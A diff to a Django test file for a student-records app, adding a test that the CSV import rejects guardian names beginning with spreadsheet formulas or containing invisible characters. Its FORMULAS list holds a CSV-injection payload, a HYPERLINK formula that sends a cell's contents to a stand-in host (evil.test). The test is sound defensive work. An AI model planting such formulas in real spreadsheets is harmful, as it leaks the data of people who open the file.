@@ -8,6 +8,7 @@ from students.forms import GuardianForm, StudentForm
 from students.models import Classroom, Guardian, Student
 from students.validators import validate_name
 from tests.students.student_pages import student_data
+from tests.students.test_import_export import EXPORTED_HEADER, csv_upload, upload
 
 FORMULAS = [
     '==HYPERLINK("http://evil.test/?x="&A2,"klik")',
@@ -141,3 +142,29 @@ def test_an_empty_guardian_name_is_still_allowed(db):
     form = GuardianForm(data=_guardian(name=""))
 
     assert form.is_valid(), form.errors
+
+
+# --- The import: the same rule for each guardian's name ----------------------------------
+
+
+@pytest.mark.parametrize("relation", ["ayah", "ibu", "wali"])
+@pytest.mark.parametrize("name", [FORMULAS[0], FORMULAS[3], INVISIBLE[2], INVISIBLE[4]])
+def test_the_import_refuses_such_guardian_names(
+    admin_client, classroom, tmp_path, settings, relation, name
+):
+    settings.STUDENT_IMPORT_DIR = tmp_path / "imports"
+    cells = {
+        "ayah": ["", ""],
+        "ibu": ["", ""],
+        "wali": ["", ""],
+        relation: [name, "0812-3456-7890"],
+    }
+    rows = [["N001", "Aisyah", classroom.name, *cells["ayah"], *cells["ibu"], *cells["wali"]]]
+
+    preview = upload(admin_client, csv_upload(rows, header=EXPORTED_HEADER))
+
+    [refused] = preview.context["result"].invalid_rows
+    [error] = refused.error.error_dict[f"{relation}_name"]
+    assert error.code in {"formula_start", "control_character"}
+    assert "confirm_form" not in preview.context
+    assert not Guardian.objects.exists()
